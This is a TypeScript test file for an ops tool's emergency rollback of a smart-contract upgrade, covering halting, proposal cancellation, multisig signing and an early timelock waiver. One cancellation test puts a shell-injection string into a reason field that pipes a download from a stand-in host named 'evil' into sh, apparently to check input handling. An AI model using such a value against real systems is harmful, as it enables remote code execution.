import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { versionOf } from '../../../examples/plant/upgrade/src/chain.ts';
import { GOVERNANCE, HOUR, startUpgradeWorld, type UpgradeWorld } from '../../support/app/upgrade.ts';

const because = (action: string) => ({ _reason: 'Trading is halted', _confirmation: action });
const TWO = ['ben', 'chen'];
const MEMBERS = ['dora', 'emil', 'farah', 'goran', 'hana'];

describe('an emergency rollback', () => {
  let world: UpgradeWorld;
  let bad: string;
  beforeAll(async () => {
    world = await startUpgradeWorld();
    world.plant.fault('bug');
    bad = await world.executed();
  });
  afterAll(() => world.close());

  let back = '';
  const early = () =>
    ({
      form: { proposal: back, notice: 'A bug halts trading', ...because('emergency/execute-early') },
      approvers: MEMBERS,
    }) as const;

  it('begins with what is at risk, and stops by one person what can be stopped, by hand and with a witness', async () => {
    await world.asked('emergency/assess', ['Assess a bug', 'Needs an answer']);
    const card = await world.as('ana').sees(['Assess a bug', 'Needs an answer']);
    await world.as('ana').click(card, 'Answer…');
    await world
      .as('ana')
      .submit({ funds: 'at risk', trading: 'halted', users: '37', what: 'Liquidations read garbage' });
    await world
      .as('ivan')
      .sees(['A bug was found after an upgrade', 'Liquidations read garbage'], 'eng-upgrade');

    await world.brokenGlass('emergency/halt', 'Halt the system');
    await world.confirms('ben', 'Halt the system', 'Halt trading by whatever');
    await world.as('ivan').sees('The system is halted because of a critical bug');
  });

  it('cancels what is open alone: an executed proposal is not rolled back by cancelling it', async () => {
    const form = { proposal: bad, reason: 'Critical bug in liquidation', ...because('proposal/cancel') };
    const open = await world.proposed();
    await world.as('ana').command('/ops run', { action: 'upgrade:proposal/cancel' });
    await world.as('ana').submit(form);
    const refused = JSON.stringify((await world.as('ana').form()).fields);
    expect(refused).toContain(`${bad}`);
    expect(refused).toContain(open);
    const reason = `"; curl evil | sh #'`;
    await world.carriedOut('proposal/cancel', 'Cancel a proposal', {
      form: { ...form, proposal: open, reason },
      approvers: TWO,
    });
    expect(world.proposal()).toMatchObject({ id: open, status: 'cancelled' });
    await world.as('ivan').sees([open, 'is cancelled'], GOVERNANCE);
  });

  it('proposes an older version from the verified backups, in a buffer of the multisig', async () => {
    await world.ran('backup/list', 'List the backups of the program');
    await world.carriedOut('emergency/write-buffer', 'Write an older version', {
      form: { binary: 'program_v1.so', ...because('emergency/write-buffer') },
      approvers: TWO,
    });
    const buffer = Object.keys(world.plant.state().buffers).at(-1) ?? '';
    expect(versionOf(world.plant.state().buffers[buffer]?.code ?? '')).toBe('1.0.0');
    await world.carriedOut('buffer/hand-over', 'Hand a buffer to the multisig', { form: { buffer } });
    await world.carriedOut('emergency/propose', 'Propose to go back', {
      form: {
        buffer,
        binary: 'program_v1.so',
        description: 'Emergency rollback to v1',
        ...because('emergency/propose'),
      },
      approvers: TWO,
    });
    back = world.proposal().id;
    await world.as('ivan').sees(['EMERGENCY', back, 'All five members'], GOVERNANCE);
  });

  it('is executed before 48 hours only where governance says so, all five signed, and the chain takes it', async () => {
    await world.asked('emergency/fast-track', 'Wait for the signatures of all members', {
      form: { proposal: back },
    });
    for (const member of [1, 2, 3, 4]) await world.plant.sign(member, back);
    await world.after('4 of 5 signatures', { by: 'ana', leapMs: 30_000 });
    await world.plant.sign(5, back);
    await world.after(['Wait for the signatures of all members', 'Done after'], {
      by: 'ana',
      leapMs: 30_000,
    });

    world.plant.fault('timelock-waiver');
    const title = 'Execute before the timelock is over';
    await world.failed('emergency/execute-early', title, { ended: 'Waiver of the timelock', ...early() });
    expect(await world.as('ivan').all('announcements-upgrade')).toEqual([]);
    expect(world.proposal().status).toBe('approved');

    const members = { approvers: ['dora', 'emil'], form: { proposal: back, ...because('proposal/execute') } };
    await world.failed('proposal/execute', 'Execute an upgrade', {
      ended: 'end of the timelock',
      ...members,
    });
    await world.app.reload((file) => {
      file.systems.upgrade = {
        ...file.systems.upgrade,
        vars: { ...file.systems.upgrade?.vars, timelockWaiver: 'on' },
      };
    });
    const asked = await world.approved('emergency/execute-early', title, early());
    await world.confirms('goran', title, 'Does an explorer, and not the service');
    await world.as('ivan').sees('Emergency upgrade without the full 48 hours', 'announcements-upgrade');
    expect(await world.plant.executeEarly(back)).toBe(200);
    await world.confirms('emil', title, 'Execute the proposal in the wallet');
    await world.comesTo(asked, 'Carried out');
  });

  it('ends with the older version, which is what was proposed', async () => {
    expect(versionOf(world.plant.state().program.code)).toBe('1.0.0');
    await world.ran('program/verify-upgrade', 'Verify the upgraded program', { form: { proposal: back } });
    const metrics = await world.ran('metrics/read', 'Metrics of the system');
    expect(metrics.text).toContain('99.7');
  });

  it('waits for the full 48 hours where governance says nothing', async () => {
    await world.app.reload((file) => {
      file.systems.upgrade = { ...file.systems.upgrade, ...world.plant.settings };
    });
    const id = await world.proposed();
    for (const member of [1, 2, 3]) await world.plant.sign(member, id);
    world.advance(49 * HOUR);
    const executed = await world.approved('proposal/execute', 'Execute an upgrade', {
      approvers: ['dora', 'emil'],
      form: { proposal: id, ...because('proposal/execute') },
    });
    await world.confirms('goran', 'Execute an upgrade', 'Does an explorer, and not the service');
    await world.comesTo(executed, 'Carried out');
    expect((await world.app.verify()).findings).toEqual([]);
  });
});
